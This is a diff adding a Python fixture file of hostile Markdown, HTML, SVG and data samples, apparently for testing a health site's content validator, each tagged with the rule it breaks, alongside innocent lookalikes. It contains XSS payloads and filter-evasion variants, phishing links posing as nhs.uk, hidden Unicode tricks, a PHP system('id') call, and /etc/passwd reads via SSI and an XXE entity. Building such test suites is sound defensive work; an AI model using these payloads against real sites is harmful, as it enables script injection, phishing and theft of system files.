@@ -1,0 +1,208 @@
+"""What people who mean harm have tried on sites like this one, and what looks like it and is innocent."""
+
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """A piece of a page: the rule that it breaks, its Markdown, and the line of that, from 1, that is to blame."""
+
+    rule: str
+    text: str
+    line: int = 1
+
+
+PAGES = {
+    "a script": Hostile("html", "<script>alert(1)</script>"),
+    "a script from elsewhere": Hostile("html", 'Words. <script src="https://evil.example/x.js"></script>'),
+    "a script in capitals": Hostile("html", "<SCRIPT>alert(1)</SCRIPT>"),
+    "a script in a list": Hostile("html", "- one\n- two <script>alert(1)</script>", 2),
+    "a script in a table": Hostile("html", "| A | B |\n| --- | --- |\n| 1 | <script>alert(1)</script> |", 3),
+    "a script in a box": Hostile("html", "!!! note\n\n    Words.\n\n    <script>alert(1)</script>", 5),
+    "a script below code that shows one": Hostile("html", "```\n<script>\n```\n\n<script>alert(1)</script>", 5),
+    "a script beside code that shows one": Hostile("html", "Write `<script>`.\n\nAnd <script>alert(1)</script>", 3),
+    "a script in a definition": Hostile("html", "Word\n:   What it means <script>alert(1)</script>", 2),
+    "a handler": Hostile("html-attribute", '<img src="x.png" alt="a" onerror="alert(1)">'),
+    "a handler between slashes": Hostile("html-attribute", 'Words <b/onclick=alert(1)>more</b>'),
+    "a handler on its own line": Hostile("html-attribute", '<img\nsrc="x.png" alt="a"\nonerror="alert(1)">', 3),
+    "a handler after a trick with quotes": Hostile(
+        "html-attribute", '<b title=">" onclick="alert(1)">Words</b>'
+    ),
+    "a handler in an attribute list": Hostile("html-attribute", 'Words.\n{ onmouseover="alert(1)" }', 2),
+    "a handler on a heading": Hostile("html-attribute", '## Words { onclick="alert(1)" }'),
+    "a handler on a link": Hostile("html-attribute", '[words](index.md){ onfocus="alert(1)" }'),
+    "a handler on details": Hostile("html-attribute", '<details ontoggle="alert(1)"><summary>A</summary></details>'),
+    "a handler on the whole page": Hostile("html", '<body onload="alert(1)">'),
+    "a frame": Hostile("html", '<iframe src="https://evil.example/"></iframe>'),
+    "a frame with a page in it": Hostile("html", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
+    "an object": Hostile("html", '<object data="https://evil.example/x.swf"></object>'),
+    "an embed": Hostile("html", '<embed src="https://evil.example/x.swf">'),
+    "a form": Hostile("html", '<form action="https://evil.example/"><input type="password"></form>'),
+    "a field": Hostile("html", 'Words <input name="password">'),
+    "a button": Hostile("html", '<button formaction="javascript:alert(1)">Go on</button>'),
+    "a stylesheet in the page": Hostile("html", "<style>article { display: none }</style>"),
+    "a stylesheet from elsewhere": Hostile("html", '<link rel="stylesheet" href="https://evil.example/x.css">'),
+    "a style": Hostile("html-attribute", '<p style="position: fixed; inset: 0">Words</p>'),
+    "a style in an attribute list": Hostile("html-attribute", 'Words.\n{ style="position: fixed" }', 2),
+    "a page that goes elsewhere by itself": Hostile(
+        "html", '<meta http-equiv="refresh" content="0; url=https://evil.example/">'
+    ),
+    "another base for all links": Hostile("html", '<base href="https://evil.example/">'),
+    "a window over the page": Hostile("html", "<dialog open>Your phone has a virus</dialog>"),
+    "an element that nobody knows": Hostile("html", "<marquee>Words</marquee>"),
+    "a template": Hostile("html", "<template><script>alert(1)</script></template>"),
+    "a trick with noscript": Hostile("html", '<noscript><p title="</noscript><script>alert(1)</script>">'),
+    "a trick with formulas": Hostile("html", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
+    "a drawing that runs": Hostile("html", '<svg onload="alert(1)"></svg>'),
+    "a drawing from elsewhere": Hostile("html", '<svg><use href="https://evil.example/x.svg#a"/></svg>'),
+    "a film": Hostile("html", '<video src="https://evil.example/x.mp4"></video>'),
+    "a sound": Hostile("html", '<audio src="https://evil.example/x.mp3" autoplay></audio>'),
+    "a picture with sources": Hostile(
+        "html", '<picture><source srcset="https://evil.example/x.png"><img src="x.png" alt="a"></picture>'
+    ),
+    "pictures by size": Hostile("html-attribute", '<img src="x.png" alt="a" srcset="https://evil.example/x.png 2x">'),
+    "a picture from elsewhere": Hostile("media", "![A cat](https://evil.example/cat.png)"),
+    "a picture from elsewhere without a scheme": Hostile("media", '<img src="//evil.example/cat.png" alt="A cat">'),
+    "a picture from elsewhere with a backslash": Hostile("media", r'<img src="/\evil.example/cat.png" alt="A cat">'),
+    "a picture from elsewhere by reference": Hostile(
+        "media", "![A cat][cat]\n\n[cat]: https://evil.example/cat.png", 3
+    ),
+    "a picture in its address": Hostile("address-scheme", '<img src="data:image/svg+xml,%3Csvg/%3E" alt="A cat">'),
+    "a link that runs": Hostile("address-scheme", "[words](javascript:alert(1))"),
+    "a link that runs, after a space": Hostile("address-scheme", '<a href=" javascript:alert(1)">words</a>'),
+    "a link that runs, after a control": Hostile("address-scheme", '<a href="&#1;javascript:alert(1)">words</a>'),
+    "a link that runs, with a tab": Hostile("address-scheme", '<a href="java&#09;script:alert(1)">words</a>'),
+    "a link that runs, with a line end": Hostile("address-scheme", '<a href="java&NewLine;script:alert(1)">words</a>'),
+    "a link that runs, in capitals": Hostile("address-scheme", "[words](JaVaScRiPt:alert(1))"),
+    "a link that runs, in entities": Hostile("address-scheme", '<a href="&#106;&#x61;vascript:alert(1)">words</a>'),
+    "a link that runs, with a named colon": Hostile("address-scheme", '<a href="javascript&colon;alert(1)">words</a>'),
+    "a link that runs, by reference": Hostile("address-scheme", "[words][w]\n\n[w]: javascript:alert(1)", 3),
+    "a link that runs, in brackets": Hostile("address-scheme", "Words <a href='vbscript:x'>more</a>"),
+    "a link that runs, around a picture": Hostile("address-scheme", "[![A](x.png)](javascript:alert(1))"),
+    "a link that runs, on a map": Hostile("html-attribute", '<map><area href="javascript:alert(1)"></map>'),
+    "a quote from a script": Hostile("address-scheme", '<blockquote cite="javascript:alert(1)">Words</blockquote>'),
+    "a page in its address": Hostile("address-scheme", "[words](data:text/html;base64,PHNjcmlwdD4=)"),
+    "a file of the reader": Hostile("address-scheme", "[words](file:///etc/passwd)"),
+    "a link that tells where you are": Hostile(
+        "html-attribute", '<a href="index.md" ping="https://evil.example/">words</a>'
+    ),
+    "a name to sign in with": Hostile("address-name", "[Ask the NHS](https://nhs.uk@evil.example/)"),
+    "a name and a password": Hostile("address-name", "[Ask the NHS](https://nhs.uk:443@evil.example/)"),
+    "backslashes for slashes": Hostile("address-backslash", r'<a href="https:\\evil.example/">words</a>'),
+    "a path that leaves": Hostile("address-backslash", r'<a href="/\evil.example/">words</a>'),
+    "a site without slashes": Hostile("address-form", '<a href="https:evil.example">words</a>'),
+    "a site with a slash too many": Hostile("address-form", '<a href="https:///evil.example">words</a>'),
+    "letters that look like others": Hostile("address-letters", "[words](https://n\u04bbs.uk/)"),
+    "an address with a line's end in it": Hostile("address-hidden", '<a href="https://nhs.uk/&#10;x">words</a>'),
+    "words that are another address": Hostile("link-words", "[https://nhs.uk](https://evil.example)"),
+    "words that are another site": Hostile("link-words", "[nhs.uk](https://evil.example/nhs.uk)"),
+    "words that are another site with www": Hostile("link-words", "[www.nhs.uk](https://evil.example)"),
+    "words that hold another site": Hostile("link-words", "[Read it on **nhs**.uk](https://nhs.uk.evil.example)"),
+    "words in wide letters": Hostile("link-words", "[\uff4e\uff48\uff53.uk](https://evil.example)"),
+    "words that are another mailbox": Hostile("link-words", "[help@nhs.uk](mailto:help@evil.example)"),
+    "words that are another number": Hostile("link-words", "Call [111](tel:09061234567)."),
+    "a picture that says another site": Hostile("link-words", "[![nhs.uk](x.png)](https://evil.example)"),
+    "words that run backwards": Hostile("character", "Walk \u202eten miles\u202c a day."),
+    "words that run backwards by an entity": Hostile("character", "Words.\n\nWalk &#8238;ten miles a day.", 3),
+    "words that run backwards by a name": Hostile("character", "Walk &rlm;ten miles a day."),
+    "a space of no width": Hostile("character", "Do not\u200bwalk."),
+    "a soft hyphen": Hostile("character", "Do not walk, para\u00adcetamol helps."),
+    "letters for machines alone": Hostile("character", "Walk \U000e0048\U000e0069 more."),
+    "a letter without a shape": Hostile("character", "Walk \u3164 more."),
+    "a title that runs backwards": Hostile("character", '<b title="&#x202e;abc">Words</b>'),
+    "a joiner between letters": Hostile("character", "Pay\u200dPal"),
+    "an order to a server": Hostile("html", '<!--#include virtual="/etc/passwd" -->'),
+    "a program for a server": Hostile("html", "<?php system('id'); ?>"),
+    "ends of what was never begun": Hostile("html-end", "Words.\n\n</article></main>\n\nMore.", 3),
+}  # fmt: skip
+"""By what it is."""
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n{}\n</svg>\n'
+FILES: dict[str, tuple[str, int, str]] = {
+    "evil.html": ("file-kind", 0, "<script>alert(1)</script>"),
+    "evil.HTM": ("file-kind", 0, "<script>alert(1)</script>"),
+    "evil.xhtml": ("file-kind", 0, "<script>alert(1)</script>"),
+    "evil.js": ("file-kind", 0, "alert(1)"),
+    "evil.css": ("file-kind", 0, "* { display: none }"),
+    "evil.php": ("file-kind", 0, "<?php system('id'); ?>"),
+    "evil.exe": ("file-kind", 0, "MZ"),
+    "evil": ("file-kind", 0, "words"),
+    "evil.svgz": ("file-kind", 0, "words"),
+    "CNAME": ("file-name", 0, "evil.example"),
+    "_headers": ("file-name", 0, "/*\n  Content-Security-Policy: default-src *\n"),
+    "_redirects": ("file-name", 0, "/* https://evil.example/:splat 302\n"),
+    "robots.txt": ("file-name", 0, "User-agent: *\nDisallow: /\n"),
+    "404.html": ("file-name", 0, "<script>alert(1)</script>"),
+    "netlify.toml": ("file-name", 0, "[[redirects]]\n"),
+    "web.config": ("file-name", 0, "<configuration/>\n"),
+    "deep/.htaccess": ("file-name", 0, "Options +Indexes\n"),
+    "deep/.well-known/security.txt": ("file-name", 0, "Contact: mailto:evil@evil.example\n"),
+    "deep/Robots.txt": ("file-name", 0, "User-agent: *\n"),
+    "turned\u202egnp.md": ("file-name", 0, "# Words\n"),
+    "script.svg": ("svg", 2, SVG.format("<script>alert(1)</script>")),
+    "handler.svg": ("svg", 2, SVG.format('<g onclick="alert(1)"/>')),
+    "handler-on-top.svg": ("svg", 1, '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n'),
+    "page.svg": ("svg", 2, SVG.format('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>')),
+    "link.svg": ("svg", 2, SVG.format('<a xlink:href="javascript:alert(1)"><path d="M0 0"/></a>')),
+    "moves.svg": ("svg", 2, SVG.format('<animate attributeName="href" values="javascript:alert(1)"/>')),
+    "outside.svg": ("svg", 2, SVG.format('<image href="https://evil.example/x.png"/>')),
+    "outside-use.svg": ("svg", 2, SVG.format('<use xlink:href="https://evil.example/x.svg#a"/>')),
+    "outside-fill.svg": ("svg", 2, SVG.format('<path fill="url(https://evil.example/x.svg#a)" d="M0 0"/>')),
+    "outside-style.svg": ("svg", 2, SVG.format("<style>@import 'https://evil.example/x.css';</style>")),
+    "outside-escaped.svg": ("svg", 2, SVG.format("<path style='fill: \\75rl(//evil.example/x)' d='M0 0'/>")),
+    "drawing-in-address.svg": ("svg", 2, SVG.format('<image href="data:image/svg+xml,%3Csvg/%3E"/>')),
+    "base.svg": ("svg", 2, SVG.format('<g xml:base="https://evil.example/"/>')),
+    "order.svg": ("svg", 1, '<?xml-stylesheet href="https://evil.example/x.css"?>' + SVG.format("")),
+    "entities.svg": ("svg", 1, '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n' + SVG.format("&e;")),
+    "html.svg": ("svg", 1, "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"),
+    "broken.svg": ("svg", 3, SVG.format("<g>")),
+    "turned.svg": ("character", 2, SVG.format("<text>&#x202e;abc</text>")),
+}
+"""By name: the rule that it breaks, the line that is to blame, and what it holds."""
+
+DATA = {
+    "hidden.yml": ("character", 2, "a: 1\nb: Walk \u202eten miles.\n"),
+    "escaped.yml": ("b.1", 2, 'a: 1\nb: ["Walk \\u202eten miles."]\n'),
+    "signs-in.yml": ("b", 2, "a: 1\nb: https://nhs.uk@evil.example/\n"),
+    "runs.yml": ("b.c", 3, 'a: 1\nb:\n  c: "java\\tscript:alert(1)"\n'),
+    "hidden-title.md": ("character", 2, "---\ntitle: A\u200bB\ndescription: Words.\ncovers: []\n---\n\n# Words\n"),
+    "escaped-title.md": ("title", 2, '---\ntitle: "A\\u200bB"\ndescription: Words.\ncovers: []\n---\n\n# Words\n'),
+}
+"""By name, as above."""
+
+INNOCENT = {
+    "code that shows a script": "Write `<script>alert(1)</script>` or `<img onerror=x>`.",
+    "a block that shows a script": '```html\n<script>alert(1)</script>\n<a href="javascript:x">a</a>\n```',
+    "a block by its indent": 'Words:\n\n    <iframe src="https://evil.example"></iframe>',
+    "entities that show a tag": "Write &lt;script&gt; or &amp;#8238;.",
+    "a mailbox": "Write to [help@nhs.uk](mailto:help@nhs.uk), or [write to us](mailto:help@nhs.uk?subject=Cards).",
+    "a number": "Call [999](tel:999), [0300 123 4567](tel:03001234567) or [+44 300 123](tel:+44300123).",
+    "a number in words": "[Call now](tel:111)",
+    "words that are the site": "See [nhs.uk](https://www.nhs.uk/conditions/), [www.nhs.uk](https://nhs.uk), <https://nhs.uk>.",
+    "words that are the address": "[https://nhs.uk/back](https://nhs.uk/back)",
+    "words that are a part of the site": "[nhs.uk](https://111.nhs.uk/)",
+    "words that look like a site": "[Node.js](https://nodejs.org), [e.g. this](https://a.example), [README.md](a.md).",
+    "a time in words": "[1.5 to 2.5 hours](https://a.example)",
+    "signs of less and more": "2 < 3 and 5 > 4, a<b, and <3.",
+    "quotes that curl": "\u201cWords\u201d and it\u2019s \u2018fine\u2019 \u2026 5\u00a0kg \u2013 10\u00a0kg",
+    "emoji": "\U0001f469\u200d\U0001f467 \U0001f6b6\U0001f3fd\u200d\u2640\ufe0f 1\ufe0f\u20e3",
+    "a flag of a part of a country": "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
+    "letters with marks": "Zo\u00eb, na\u00efve, \u0141\u00f3d\u017a, e\u0301t\u00e9",
+    "words from right to left": "\u0645\u0631\u062d\u0628\u0627 and \u05e9\u05dc\u05d5\u05dd",
+    "a joiner where its script needs it": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u0915\u094d\u200d\u0937",
+    "words of other scripts": "\u80cc\u4e2d\u75db \u041f\u0440\u0438\u0432\u0435\u0442 \u0e2a\u0e27\u0e31",
+    "a table with sides": "| A | B |\n| :-- | --: |\n| 1 | 2 |",
+    "a class and an id": 'Words.\n{ #here .note title="More" }',
+    "a box": '!!! warning "Stop"\n\n    Words.',
+    "boxes that open": '??? note "More"\n\n    Words.\n\n<details open><summary>A</summary>B</details>',
+    "a picture of our own": "![A cat](assets/images/cat.svg) ![A dog](../dog.png)",
+    "a link of our own": "[home](index.md#top) [up](../index.md?x=1) [here](#here)",
+    "an at in a path": "[map](https://maps.example/@51.5,-0.1)",
+    "a colon in a path": "[page](https://a.example/a:b?c=d:e#f:g)",
+    "a comment": "<!-- A note to who edits this. -->\n\nWords.",
+    "safe HTML": 'Press <kbd>Tab</kbd>, H<sub>2</sub>O, 10 m<sup>2</sup>, <abbr title="National">N</abbr>, a<br>b.',
+    "a footnote": "Words.[^1]\n\n[^1]: More [words](https://a.example).",
+    "an abbreviation": "The NHS.\n\n*[NHS]: National Health Service",
+    "a term": "Word\n:   What it means.",
+}  # fmt: skip
+"""By what it is: Markdown of which nothing is told."""
